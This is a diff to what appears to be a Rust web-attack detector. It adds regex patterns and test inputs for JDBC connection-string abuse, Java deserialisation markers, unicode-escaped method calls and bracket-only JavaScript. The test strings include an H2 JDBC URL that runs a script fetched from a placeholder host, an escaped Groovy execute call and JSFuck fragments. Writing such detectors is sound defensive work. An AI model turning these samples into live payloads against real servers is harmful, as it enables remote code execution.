@@ -54,13 +54,17 @@ static PATTERNS: Patterns = Patterns::new(&[
     pattern("code.call", 0.55, 0.0, "^[@!;\"')\\s]{0,4}[a-z][a-z0-9]*(?:_[a-z0-9]+)+(?:\\s|/\\*[^*]*\\*/)*\\([^()]{0,80}\\)?\\W*$"),
     pattern("code.php_object", 0.9, 0.7, "(?:^|[^a-z])[oc]:\\+?\\d+:[\"'][\\w\\\\]+[\"']:\\d+:[{;]|\\ba:\\d+:\\{[is]:\\d+"),
     // Java.
-    pattern("code.java_class", 0.85, 0.45, "\\b(?:java\\.(?:lang|io|net|util|beans|rmi|naming|sql|security)\\.\\w|javax?\\.(?:script|naming|management|el|evil)|com\\.sun\\.|sun\\.(?:misc|reflect|rmi)|com\\.opensymphony|org\\.apache\\.(?:commons|xalan|struts|catalina|velocity|shiro|log4j|ibatis|tomcat|dubbo|naming|wicket)|org\\.(?:springframework|omg\\.corba|hibernate|jboss|codehaus|mozilla|python|owasp|eclipse)\\b|freemarker\\.|groovy\\.lang|ognl\\.|com\\.(?:mchange|alibaba|ibm\\.ws|bea|newrelic|zaxxer|caucho)\\.|weblogic\\.|bsh\\.interpreter|javassist\\.|net\\.sf\\.|clojure\\.)"),
+    pattern("code.java_class", 0.85, 0.45, "\\b(?:java\\.(?:lang|io|net|util|beans|rmi|naming|sql|security)\\.\\w|javax?\\.(?:script|naming|management|el|evil)|com\\.sun\\.|com\\.mysql\\.(?:cj\\.)?(?:jdbc\\.)?interceptors|sun\\.(?:misc|reflect|rmi)|com\\.opensymphony|org\\.apache\\.(?:commons|xalan|struts|catalina|velocity|shiro|log4j|ibatis|tomcat|dubbo|naming|wicket)|org\\.(?:springframework|omg\\.corba|hibernate|jboss|codehaus|mozilla|python|owasp|eclipse)\\b|freemarker\\.|groovy\\.lang|ognl\\.|com\\.(?:mchange|alibaba|ibm\\.ws|bea|newrelic|zaxxer|caucho)\\.|weblogic\\.|bsh\\.interpreter|javassist\\.|net\\.sf\\.|clojure\\.)"),
     pattern("code.java_class", 0.7, 0.3, "^\\W*(?:java|javax|org|com)\\.[\\w.]*(?:runtime|processbuilder|processimpl)|\\b(?:runtime|processbuilder)(?:\\.\\w+)*\\.(?:exec|getruntime|start|evil|clonetransformer|\\w*(?:transformer|closure|factory))\\b|\\bprocessbuilder\\s*\\(|\\bjava\\.\\w+\\.?runtime\\b|^\\s*java\\.processbuilder\\s*$"),
     pattern("code.java_gadget", 0.9, 0.6, "\\b(?:invokertransformer|prototypeclonefactory|chainedtransformer|constanttransformer|templatesimpl|jdbcrowsetimpl|badattributevalueexp|annotationinvocationhandler|xmldecoder|objectinputstream|classpathxmlapplicationcontext|javax\\.script\\.scriptenginemanager|beanfactory|unicastref)\\b|@type[\"']?\\s*:\\s*[\"']|\\bclass\\.(?:module\\.)?classloader|forclosure|whileclosure|clonetransformer|instantiatetransformer|instantiatefactory|prototypeserializationfactory"),
+    // Connection strings whose driver runs, reads or deserialises; XML-RPC's objects; escapes in source.
+    pattern("code.java_object", 0.8, 0.6, "\\bjdbc:h2:[^\\n]{0,200}\\binit\\s*=|\\bautodeserialize\\b|\\ballowloadlocalinfile\\b|\\bjdbc:[a-z0-9]+:[^\\n]{0,200}(?:socketfactory|statementinterceptors|queryinterceptors|loggerfile|clientrerouteserverlistjndiname)|<(?:\\w+:)?serializable\\b|\\.(?:\\\\u+00[67][0-9a-f]\\w*|\\w+\\\\u+00[67][0-9a-f]\\w*)\\("),
     pattern("code.java_object", 0.95, 0.9, "\\xac\\xed\\x00\\x05|\\bro0ab[a-z0-9+/]|\\bkztaa[a-z0-9+/]|\\bcs7qa[a-z0-9+/]|\\baaeaaad/////"),
     // Node and browsers' prototypes.
     pattern("code.node", 0.85, 0.4, "\\brequire\\s*\\(\\s*['\"`](?:child_process|fs|vm|net|http|os|crypto|cluster)|\\bchild_process\\b|process\\.(?:mainmodule|binding|env|exit|kill|dlopen)|_\\$\\$nd_func\\$\\$_|\\bglobal(?:this)?\\.process|\\bspawnsync\\b|\\bexecsync\\b|\\bfs\\.(?:readfile|writefile|readdir)|\\b(?:this|global)\\.constructor|new\\s+function\\s*\\(|\\bres(?:ponse)?\\.(?:end|send|write)\\s*\\(|\\bconstructor\\._load|\\bwhile\\s*\\(\\s*(?:true|1|!0|!!1|\\+?1|[!+-]*\\s*(?:new\\s+)?(?:\\w+|``|\"\"|''|\\{\\}|\\[\\]))\\s*\\)\\s*(?:;|\\{|$)|\\bset(?:timeout|interval)\\s*\\("),
     pattern("code.node", 0.7, 0.1, "\\bconsole\\.(?:log|info|error|debug|dir|trace|warn)(?:\\.call)?\\s*\\(|\\b(?:process|require)\\s*\\[\\s*(?:[\"']|mainmodule|env\\b|req\\.)|\\bthis\\.constructor\\.|\\bconsole\\[\\s*[\"']|\\bmodule\\.exports\\s*=|\\b_response:_chunks|:constructor:constructor"),
+    // Script of brackets alone: names are cut from what `false` and `undefined` are spelled as.
+    pattern("code.node", 0.8, 0.5, "!\\[\\]\\s*\\+?\\s*\\[[^\\w]{0,12}\\]\\s*\\)?\\s*\\[|\\[\\]\\s*\\[\\s*\\(\\s*!\\[\\]"),
     pattern("code.prototype", 0.85, 0.5, "__proto__|\\bconstructor\\s*(?:\\[|\\.)\\s*['\"]?prototype|\\[['\"]?prototype['\"]?\\]\\s*[\\[.=]|\\[['\"]?constructor['\"]?\\]\\[|\\b__define[gs]etter__|__lookup[gs]etter__"),
     // Python, Perl, Ruby.
     pattern("code.python", 0.85, 0.3, "\\b__import__\\s*\\(|\\.os\\.system\\b|\\bos\\.(?:system|popen|exec\\w*|spawn\\w*)\\s*\\(|\\bsubprocess\\.|\\bpty\\.spawn|\\bcompile\\s*\\(.{0,80}exec|\\bexec\\s*\\(\\s*['\"]|\\beval\\s*\\(\\s*(?:compile|['\"]|__)|\\bcos\\nsystem\\n|\\bcposix\\n|!!python/|!ruby/(?:object|hash)|\\bpickle\\.loads|\\b(?:import|from)\\s+(?:os|subprocess|socket|pty)\\b\\s*[;,]|\\bsocket\\.socket\\(|\\.__(?:class|globals|subclasses)__"),
@@ -122,6 +126,12 @@ mod tests {
             "a[constructor][prototype]",
             "process[\"env\"]",
             "console.log(1)",
+            "(![]+[])[+!+[]]",
+            "[][(![]+[])[+[]]+x]",
+            "throw new Exception('id'.\\u0065xecute().text)",
+            "<serializable xmlns=\"http://ws.apache.org/xmlrpc/namespaces/extensions\">x",
+            "{\"autoDeserialize\":\"true\"}",
+            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://a.example/'",
             "rO0ABQ",
             "KztAAU",
         ] {
